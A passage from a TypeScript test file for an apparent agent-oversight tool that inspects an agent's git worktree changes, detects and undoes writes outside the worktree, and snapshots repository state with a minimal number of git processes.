  test('a change without secrets is left alone', async () => {
    const s = await setup('secrets-none');
    write(s.worktree, 'lib/strings.js', 'module.exports = { slugify: (s) => s };\n');
    expect(await holdBackSecrets({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, allowances: [] })).toEqual({ held: [], allowed: [] });
    expect(readFileSync(path.join(s.worktree, 'lib/strings.js'), 'utf8')).toContain('slugify');
  });
});

describe('git processes', () => {
  test("a repository's kind is read from its .git folder, or asked of git once where its config could move it: then a second inspection starts one git process fewer", async () => {
    const s = await setup('count');
    const launchedBy = async (work: () => Promise<unknown>): Promise<number> => {
      const before = processTally();
      await work();
      return tallySince(before).launched.git ?? 0;
    };
    const inspect = () => inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'] });
    expect(await launchedBy(inspect)).toBe(1); // the worktree's status
    expect(await launchedBy(inspect)).toBe(1);
    const included = await setup('count-included');
    git(included.repo, 'config', 'include.path', path.join(included.root, 'more.gitconfig'));
    const inspectIncluded = () => inspectChanges({ worktreePath: included.worktree, repoPath: included.repo, baseCommit: included.base, declaredPaths: ['**'] });
    expect(await launchedBy(inspectIncluded)).toBe(2);
    expect(await launchedBy(inspectIncluded)).toBe(1);
    // One status: HEAD still at the start commit (so the start commit is a commit, and no
    // ancestry question), the change against it and the untracked files.
    write(s.worktree, 'lib/strings.js', 'module.exports = { changed: true };\n');
    write(s.worktree, 'lib/new.js', '1;\n');
    expect(await launchedBy(inspect)).toBe(1);
    git(s.worktree, 'commit', '-qam', 'agent: edit');
    // HEAD moved: the ancestry, the new commits, the refs holding them, the diff from the start commit
    expect(await launchedBy(inspect)).toBe(5);
  });

  test('the change read from one status is the change the diff and the untracked listing name, however it was made', async () => {
    const s = await setup('status-as-diff');
    const w = s.worktree;
    write(w, 'docs/a.md', 'a\n');
    write(w, 'docs/b.md', 'b\n');
    write(w, 'docs/c.md', 'c\n');
    write(w, 'docs/d.md', 'd\n');
    write(w, 'docs/e.md', 'e\n');
    write(w, 'docs/f.md', 'f\n');
    git(w, 'add', '-A');
    git(w, 'commit', '-qm', 'base files');
    const base = git(w, 'rev-parse', 'HEAD');
    write(w, 'lib/strings.js', 'changed;\n'); // changed in the worktree
    write(w, 'docs/a.md', 'a2\n');
    git(w, 'add', 'docs/a.md'); // staged
    rmSync(path.join(w, 'docs/b.md')); // deleted
    git(w, 'rm', '-q', '--cached', 'docs/c.md'); // untracked again: a deletion
    write(w, 'docs/d.md', 'd2\n');
    git(w, 'add', 'docs/d.md');
    rmSync(path.join(w, 'docs/d.md')); // staged, then deleted
    rmSync(path.join(w, 'docs/e.md'));
    symlinkSync('a.md', path.join(w, 'docs/e.md')); // a file become a link
    write(w, 'new/staged.js', '1;\n');
    git(w, 'add', 'new/staged.js');
    write(w, 'new/staged then changed.js', '1;\n');
    git(w, 'add', 'new/staged then changed.js');
    write(w, 'new/staged then changed.js', '2;\n');
    write(w, 'new/intent.js', '1;\n');
    git(w, 'add', '-N', 'new/intent.js');
    write(w, 'new/untracked dir/deep.txt', 'x\n');
    git(w, 'init', '-q', path.join(w, 'nested'));
    const viaDiff = await listChangedPaths(w, base, s.repo);
    const inspect = () => inspectStep({ worktreePath: w, repoPath: s.repo, baseCommit: base, declaredPaths: ['**'] });
    const before = processTally();
    const { seen } = await inspect();
    expect(tallySince(before).launched.git).toBe(1);
    expect(seen.changes).toEqual(viaDiff);
    expect(viaDiff.map((c) => `${c.status} ${c.path}`)).toEqual([
      'modified docs/a.md', 'deleted docs/b.md', 'deleted docs/c.md', 'deleted docs/d.md', 'type-changed docs/e.md',
      'modified lib/strings.js', 'untracked nested/', 'added new/intent.js', 'added new/staged then changed.js', 'added new/staged.js', 'untracked new/untracked dir/deep.txt',
    ]);
    // Staged and then changed back in the worktree: the status cannot tell, the diff is asked.
    write(w, 'docs/f.md', 'f2\n');
    git(w, 'add', 'docs/f.md');
    write(w, 'docs/f.md', 'f\n');
    const asked = processTally();
    expect((await inspect()).seen.changes).toEqual(await listChangedPaths(w, base, s.repo));
    expect(tallySince(asked).launched.git).toBe(2 + 2); // the status and the diff; then the listing's diff and untracked files
  });

  test('a snapshot before a step reads its files and which of them differ from the index from one status and the index file, its refs from their files: one git process', async () => {
    const s = await setup('checkout');
    write(s.repo, 'lib/strings.js', 'changed;\n');
    write(s.repo, 'new dir/staged file.js', '1;\n');
    write(s.repo, 'notes/untracked.md', 'x\n');
    rmSync(path.join(s.repo, 'package.json'));
    await takeRepoSnapshot(s.repo); // the repository's kind is known from here on
    // A new index: the listing that snapshot kept (when its files were already old enough to
    // prove nothing changed, as on a slow machine) is not taken over, so git is asked again.
    git(s.repo, 'add', 'new dir/staged file.js');
    const before = processTally();
    const snapshot = await takeRepoSnapshot(s.repo, { worktree: s.worktree });
    expect(tallySince(before).launched.git).toBe(1); // the status
    expect(snapshot.refs).toEqual({ 'refs/heads/main': git(s.repo, 'rev-parse', 'main'), 'refs/heads/warden/checkout': s.base });
    // Staged and unchanged since, the new file matches the index: not dirty.
    expect(snapshot.checkout).toEqual({
      index: expect.stringMatching(/^[0-9a-f]{64}$/),
      dirty: expect.arrayContaining(['lib/strings.js', 'notes/untracked.md', 'package.json']),
    });
    expect(snapshot.checkout?.dirty).toHaveLength(3);
    expect(Object.keys(snapshot.files)).toEqual(expect.arrayContaining(['lib/strings.js', 'new dir/staged file.js', 'notes/untracked.md', 'README.md']));
    expect(Object.keys(snapshot.files)).not.toContain('package.json');
    const empty = path.join(s.root, 'empty');
    git(s.root, 'init', '-q', empty);
    write(empty, 'a.txt', 'a\n');
    expect((await takeRepoSnapshot(empty)).checkout).toEqual({ index: 'none', dirty: ['a.txt'] });
  });

  test('what a step wrote in the target repo is put back from the index where the file matched it before, a staged change kept; never once the step changed the index', async () => {
    const s = await setup('restore');
    write(s.repo, 'lib/strings.js', 'staged;\n');
    git(s.repo, 'add', 'lib/strings.js'); // staged: the file matches the index
    write(s.repo, 'README.md', 'edited, not staged\n'); // differs from the index
    const snapshot = await takeRepoSnapshot(s.repo, { worktree: s.worktree });
    write(s.repo, 'lib/strings.js', 'the agent;\n');
    write(s.repo, 'README.md', 'the agent;\n');
    write(s.repo, 'planted.txt', 'x\n');
    rmSync(path.join(s.repo, 'package.json'));
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'], repoSnapshot: snapshot });
    expect(kinds(report)).toEqual(['README.md', 'lib/strings.js', 'package.json', 'planted.txt'].map((p) => `outside-worktree-write ${p}`));
    const before = processTally();
    const result = await restoreOutside(snapshot, report.violations);
    expect(tallySince(before).launched.git).toBe(1); // one checkout for both files
    expect({ restored: [...result.restored].sort(), notRestored: result.notRestored }).toEqual({ restored: ['lib/strings.js', 'package.json', 'planted.txt'], notRestored: ['README.md'] });
    expect(readFileSync(path.join(s.repo, 'lib/strings.js'), 'utf8')).toBe('staged;\n');
    expect(existsSync(path.join(s.repo, 'package.json'))).toBe(true);
    expect(existsSync(path.join(s.repo, 'planted.txt'))).toBe(false);
    expect(git(s.repo, 'status', '--porcelain', '--', 'lib/strings.js', 'package.json')).toBe('M  lib/strings.js');

    const again = await takeRepoSnapshot(s.repo, { worktree: s.worktree });
    write(s.repo, 'lib/strings.js', 'the agent, staged;\n');
    git(s.repo, 'add', 'lib/strings.js');
    const staged = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'], repoSnapshot: again });
    expect(await restoreOutside(again, staged.violations)).toEqual({ restored: [], notRestored: ['lib/strings.js'] });
    expect(readFileSync(path.join(s.repo, 'lib/strings.js'), 'utf8')).toBe('the agent, staged;\n');
  });

  test('the next snapshot of a checkout takes the listing this worker remembered while its proof holds; a file changed since counts as differing from the index', async () => {
    const xdg = mkdtempSync(path.join(tmpdir(), 'warden-xdg-'));
    roots.push(xdg);
    const saved = process.env.XDG_CONFIG_HOME;
    process.env.XDG_CONFIG_HOME = xdg;
    try {
      const s = await setup('remembered');
      write(s.repo, 'README.md', 'edited, not staged\n');
      // Too large to hash: it has no content key, so it can never be carried over as matching the index.
      write(s.repo, 'big.bin', 'a'.repeat(1024 * 1024 + 1));
      git(s.repo, 'add', 'big.bin');
      const first = await settledSnapshot(s);
      expect([...first.checkout!.dirty].sort()).toEqual(['.gitignore', 'README.md']);
      write(s.repo, 'big.bin', 'b'.repeat(1024 * 1024 + 1));
      const gitRuns = async (work: () => Promise<RepoSnapshot>): Promise<{ snapshot: RepoSnapshot; runs: number }> => {
        const before = processTally();
        const snapshot = await work();
        return { snapshot, runs: tallySince(before).launched.git ?? 0 };
      };
      const take = () => takeRepoSnapshot(s.repo, { worktree: s.worktree });
      const settle = async (): Promise<void> => {
        // A hang guard, not a time bound: the stamps settle a tenth of a second after the last write.
        const giveUp = Date.now() + 120_000;
        while (!(await take()).listing?.proof) {
          if (Date.now() > giveUp) throw new Error('the listing never held a proof');
          await new Promise((resolve) => setTimeout(resolve, 50));
        }
      };

      const second = await gitRuns(take);
      expect(second.runs).toBe(0);
      const { 'big.bin': bigNow, ...othersNow } = second.snapshot.files;
      const { 'big.bin': bigBefore, ...othersBefore } = first.files;
      expect(othersNow).toEqual(othersBefore);
      expect(bigNow?.mtimeMs).not.toBe(bigBefore?.mtimeMs);
      // The large file was edited in place, which git would call modified: it counts as differing.
      expect([...second.snapshot.checkout!.dirty].sort()).toEqual(['.gitignore', 'README.md', 'big.bin']);
      expect(second.snapshot.checkout?.index).toBe(first.checkout?.index);

      // A person edits a file that matched the index: without asking git, it counts as differing,
      // so a step that then writes it is not undone by a checkout over the person's edit.
      write(s.repo, 'lib/strings.js', 'a person\'s edit;\n');
      const third = await gitRuns(take);
      expect(third.runs).toBe(0);
      expect([...third.snapshot.checkout!.dirty].sort()).toEqual(['.gitignore', 'README.md', 'big.bin', 'lib/strings.js']);
      write(s.repo, 'lib/strings.js', 'the agent;\n');
      const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'], repoSnapshot: third.snapshot });
      expect(kinds(report)).toEqual(['outside-worktree-write lib/strings.js']);
      expect(await restoreOutside(third.snapshot, report.violations)).toEqual({ restored: [], notRestored: ['lib/strings.js'] });

      // Anything that can change the listing sends the next snapshot to git: a new file, a
      // changed index, a global ignore file that appeared.
      write(s.repo, 'planted.txt', 'x\n');
      const added = await gitRuns(take);
      expect(added.runs).toBe(1);
      expect(Object.keys(added.snapshot.files)).toContain('planted.txt');
      await settle();
      git(s.repo, 'add', 'planted.txt');
      expect((await gitRuns(take)).runs).toBe(1);
      await settle();
      expect((await gitRuns(take)).runs).toBe(0);
      write(xdg, 'git/ignore', 'planted.txt\n');
      expect((await gitRuns(take)).runs).toBe(1);

      // The global ignore file a link to a file elsewhere (as dotfile managers keep it): a change
      // of the file it leads to is seen too.
      rmSync(path.join(xdg, 'git/ignore'));
      write(xdg, 'dotfiles/ignore', 'nothing-matches\n');
      symlinkSync(path.join(xdg, 'dotfiles/ignore'), path.join(xdg, 'git/ignore'));
      await settle();
      expect((await gitRuns(take)).runs).toBe(0);
      write(xdg, 'dotfiles/ignore', 'planted.txt\n');
      expect((await gitRuns(take)).runs).toBe(1);

      // A link in the middle of a chain pointed elsewhere: the file it now leads to is another one.
      rmSync(path.join(xdg, 'git/ignore'));
      write(xdg, 'dotfiles/a.ignore', 'nothing-matches\n');
      write(xdg, 'dotfiles/b.ignore', 'planted.txt\n');
      symlinkSync(path.join(xdg, 'dotfiles/a.ignore'), path.join(xdg, 'dotfiles/middle'));
      symlinkSync(path.join(xdg, 'dotfiles/middle'), path.join(xdg, 'git/ignore'));
      await settle();
      expect((await gitRuns(take)).runs).toBe(0);
      rmSync(path.join(xdg, 'dotfiles/middle'));
      symlinkSync(path.join(xdg, 'dotfiles/b.ignore'), path.join(xdg, 'dotfiles/middle'));
      expect((await gitRuns(take)).runs).toBe(1);

      // An ignore file named in a one-line section of the user's config is not read here: nothing is remembered.
      const globalConfig = path.join(xdg, 'global.gitconfig');
      writeFileSync(globalConfig, `[core] excludesfile = ${path.join(xdg, 'team.ignore')}\n`);
      process.env.GIT_CONFIG_GLOBAL = globalConfig;
      try {
        write(s.repo, 'planted-2.txt', 'x\n'); // the remembered listing no longer holds
        await new Promise((resolve) => setTimeout(resolve, 300));
        expect((await take()).listing?.proof).toBeUndefined();
      } finally {
        delete process.env.GIT_CONFIG_GLOBAL;
      }

      // A config that includes another file could name ignore rules anywhere: never remembered.
      write(s.repo, '.git/config', `${readFileSync(path.join(s.repo, '.git/config'), 'utf8')}[include]\n\tpath = ${path.join(xdg, 'more.gitconfig')}\n`);
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect((await take()).listing?.proof).toBeUndefined();
      expect((await gitRuns(take)).runs).toBe(1);
    } finally {
      if (saved === undefined) delete process.env.XDG_CONFIG_HOME;
      else process.env.XDG_CONFIG_HOME = saved;
    }
  });

  test('after a step that wrote nothing outside its worktree, the target repo is not listed again: the inspection is one git process', async () => {
    const s = await setup('unlisted');
    write(s.worktree, 'lib/strings.js', 'module.exports = { changed: true };\n');
    const snapshot = await settledSnapshot(s);
    const before = processTally();
    const report = await inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['lib/**'], repoSnapshot: snapshot });
    expect(tallySince(before).launched.git).toBe(1); // the worktree's status
    expect(report.ok).toBe(true);
    expect(report.checked.outsideWrites).toBe(true);
  });

  // Each write below changes what `git ls-files` lists after the step, or a listed file: the
  // inspection must report what it reports when git lists the repository again.
  test.each([
    ['a file in a folder that holds only ignored files', (repo: string) => write(repo, 'build/evil.js', '1;\n')],
    ['a file in an empty folder', (repo: string) => write(repo, 'empty/evil.js', '1;\n')],
    ['a file in new folders, the parent folder\'s times set back', (repo: string) => {
      write(repo, 'lib/deep/er/evil.js', '1;\n');
      utimesSync(path.join(repo, 'lib'), new Date(2020, 0, 1), new Date(2020, 0, 1));
    }],
    ['an ignored file un-ignored by a .gitignore of the same size with its times set back', (repo: string) => {
      write(repo, '.gitignore', 'build/*.lxg\nnode_modules/\n');
      utimesSync(path.join(repo, '.gitignore'), new Date(2020, 0, 1), new Date(2020, 0, 1));
    }],
    ['a file staged in the target repo', (repo: string) => git(repo, 'add', '-f', 'build/out.log')],
    ['info/exclude un-ignoring nothing but changed', (repo: string) => write(repo, '.git/info/exclude', '# changed\n')],
    ['a tracked file changed', (repo: string) => write(repo, 'lib/strings.js', 'evil;\n')],
    ['a file written into an ignored folder (not listed, so not reported)', (repo: string) => write(repo, 'node_modules/pkg/evil.js', '1;\n')],
  ])('a write outside the worktree is found as when git lists the repo again: %s', async (_what, escape) => {
    const s = await setup('escape');
    const snapshot = await settledSnapshot(s);
    escape(s.repo);
    const withGit: RepoSnapshot = { ...snapshot, listing: { ...snapshot.listing!, proof: undefined } };
    const inspect = (repoSnapshot: RepoSnapshot) => inspectChanges({ worktreePath: s.worktree, repoPath: s.repo, baseCommit: s.base, declaredPaths: ['**'], repoSnapshot });
    const report = await inspect(snapshot);
    expect(report).toEqual(await inspect(withGit));
    if (_what.includes('not reported')) expect(report.ok).toBe(true);
    else expect(report.ok).toBe(false);
  });

  test('a repository without an index yet: an ignored file staged after the snapshot is found; with an ignore file named in its config, git lists it again', async () => {
    const root = mkdtempSync(path.join(tmpdir(), 'warden-inspect-'));
    roots.push(root);
    const repo = path.join(root, 'fresh');
    git(root, 'init', '-q', repo);
    write(repo, '.gitignore', '*.log\n');
    write(repo, 'out.log', 'x\n');
    let snapshot: RepoSnapshot;
    do {
      await new Promise((resolve) => setTimeout(resolve, 50));
      snapshot = await takeRepoSnapshot(repo);
    } while (!snapshot.listing?.proof);
    git(repo, 'add', '-f', 'out.log');
    const after = await takeRepoSnapshot(repo, { previous: snapshot });
    expect(Object.keys(after.files).sort()).toEqual(['.gitignore', 'out.log']);
    git(repo, 'config', 'core.excludesFile', path.join(root, 'ignores'));
    expect((await takeRepoSnapshot(repo)).listing?.proof).toBeUndefined();
  });

  test('a repository removed and made again at the same path, now bare, is asked anew', async () => {
    const root = mkdtempSync(path.join(tmpdir(), 'warden-inspect-'));
    roots.push(root);
    const repo = createSampleRepo(path.join(root, 'repo'));
    expect(Object.keys((await takeRepoSnapshot(repo)).files)).toContain('package.json');
    rmSync(repo, { recursive: true, force: true });
    git(root, 'init', '-q', '--bare', repo);
    const bare = await takeRepoSnapshot(repo);
    expect(bare.files).toEqual({});
    expect(bare.gitControl).toHaveProperty('HEAD');
  });
});
